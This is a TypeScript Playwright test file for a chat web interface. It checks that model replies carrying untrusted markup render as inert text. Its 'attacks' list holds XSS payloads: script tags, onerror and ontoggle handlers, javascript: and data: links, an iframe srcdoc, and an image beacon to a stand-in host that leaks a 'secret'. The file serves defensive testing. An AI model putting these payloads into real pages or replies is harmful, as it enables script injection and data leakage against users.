import type { Browser, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { chromiumPath, keepScreenshot, launchBrowser, openPage } from './support/browser.ts'
import { startChatServer, type ChatServer } from './support/chat-server.ts'
import { startFakeOllama, type FakeOllama, type Line } from './support/fake-ollama.ts'

/** What a model may be talked into saying. */
const attacks = [
  '<script>globalThis.hacked = 1</script>',
  '<img src=x onerror="globalThis.hacked = 1">',
  '<svg onload="globalThis.hacked = 1"><a xlink:href="javascript:globalThis.hacked = 1">x</a></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<a href="javascript:globalThis.hacked = 1" id="link">html link</a>',
  '[link](javascript:globalThis.hacked=1)',
  '[link](<java\tscript:globalThis.hacked=1>)',
  '[link](data:text/html,<script>globalThis.hacked=1</script>)',
  '<javascript:globalThis.hacked=1>',
  '![image](http://remote.example/spy.png?secret)',
  '![image](javascript:globalThis.hacked=1)',
  '<style>body { display: none }</style>',
  '<form action="http://remote.example"><button>Press me</button></form>',
  '<details open ontoggle="globalThis.hacked = 1">',
  '```html\n<img src=x onerror="globalThis.hacked = 1">\n```',
]

const words = (text: string): Line[] => text.split(/(?<=\s)/).map((content) => ({ content }))

describe.skipIf(chromiumPath === null)('untrusted text in Chromium', { timeout: 90_000 }, () => {
  let browser: Browser
  let model: FakeOllama
  let server: ChatServer
  let page: Page

  beforeAll(async () => {
    model = await startFakeOllama()
    const flags = ['--port', '0', '--upstream', model.url]
    ;[server, browser] = await Promise.all([startChatServer(flags), launchBrowser()])
  })
  beforeEach(async () => {
    page = await openPage(browser, server.url)
    return () => page.context().close()
  })
  afterAll(async () => {
    await browser?.close()
    await server?.end('SIGTERM')
    await model?.close()
  })

  /** The reply once it is in this state. */
  const ask = async (state: string): Promise<Locator> => {
    await page.getByTestId('composer').fill('Go on')
    await page.getByTestId('composer').press('Enter')
    const reply = page.locator(`[data-role=assistant][data-state=${state}]`).last()
    await reply.waitFor()
    return reply
  }

  test.each([
    ['one line', ' '],
    ['blocks', '\n\n'],
  ])('markdown: attacks are inert, as %s', async (_, joint) => {
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(server.url)) foreign.push(request.url())
    })
    model.answers(words(`Look: ${attacks.join(joint)}`))
    const reply = await ask('done')
    const found = await reply.evaluate((element) => ({
      elements: [
        ...element.querySelectorAll('script, style, iframe, img, svg, form, object, embed, [style], [id]'),
      ].map((one) => one.outerHTML),
      handlers: [...element.querySelectorAll('*')].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
      links: [...element.querySelectorAll('[href]')].map((one) => one.getAttribute('href')),
      hacked: 'hacked' in globalThis,
    }))
    expect({ ...found, links: [...new Set(found.links)] }).toEqual({
      elements: [],
      handlers: [],
      links: ['http://remote.example/spy.png?secret'],
      hacked: false,
    })
    for (const link of await reply.locator('a').all()) expect(await link.getAttribute('rel')).toContain('noopener')
    expect(foreign).toEqual([])
    expect(await reply.innerText()).toContain('<script>globalThis.hacked = 1</script>')
    await keepScreenshot(page, joint === ' ' ? 'attacks' : 'attacks-in-blocks')
  })

  test('markdown: what models write looks right', async () => {
    const text = `## Interrupting\n\nA person may **cut in** at *any* moment, with \`interrupt()\`:\n\n1. press the button,\n2. or just send:\n   - in English,\n   - 或者用中文，**注意：**这样也行。\n\n> The partial answer is kept.\n\n| frame | meaning |\n|---|---|\n| \`message\` | text to append |\n| \`done\` | the end, see [the wire](https://wire.example) |\n\n\`\`\`ts\nconst { send, interrupt } = useChatStream({ url: '/api/chat' }) // a line that is longer than its bubble is wide, to be scrolled\n\`\`\`\n\n- [x] done\n- [ ] open\n\n---\n\nThat is ~~not~~ all.`
    model.answers(words(text))
    const reply = await ask('done')
    expect(await reply.locator('h2, strong, em, ol, ul, blockquote, table, pre, del, hr').count()).toBe(12)
    expect(await reply.locator('strong').last().innerText()).toBe('注意：')
    await page.setViewportSize({ width: 1180, height: 1180 })
    await keepScreenshot(page, 'markdown')
  })

  test('thinking: is folded, and opens', async () => {
    model.answers([{ thinking: 'The person greets me.\nI greet back.' }, { content: 'Hello!' }])
    const reply = await ask('done')
    const thought = reply.getByText('I greet back.')
    expect(await thought.isVisible()).toBe(false)
    await reply.getByText('Thinking').click()
    await thought.waitFor()
    await keepScreenshot(page, 'thinking')
  })

  test('failure: an answer that failed keeps its text, says why, and can be asked for again', async () => {
    model.answers([{ content: 'As far as ' }, { content: 'I got' }, { error: 'out of luck <b>' }])
    const reply = await ask('failed')
    expect(await reply.getByTestId('text').innerText()).toBe('As far as I got')
    expect(await reply.getByTestId('problem').innerText()).toContain(
      'The model server failed before the answer was finished.',
    )
    expect(await page.getByTestId('announcement').innerText()).toContain('failed')
    await keepScreenshot(page, 'failed')
    model.answers(words('Now it works.'))
    await page.getByTestId('try-again').click()
    await page.locator('[data-role=assistant][data-state=done]').waitFor()
    expect(await page.getByTestId('message').allInnerTexts()).toEqual(['Go on', 'Now it works.'])
  })

  test('waiting: a model that says nothing yet can be interrupted', async () => {
    const silent = Promise.withResolvers<void>()
    model.answers(
      (async function* () {
        await silent.promise
        yield { content: 'too late' }
      })(),
    )
    const reply = await ask('streaming')
    await reply.getByText('waiting for the model…').waitFor()
    await keepScreenshot(page, 'waiting')
    await page.getByTestId('interrupt').click()
    await page.getByText('Interrupted before the first word.').waitFor()
    silent.resolve()
    await keepScreenshot(page, 'interrupted-early')
  })
})
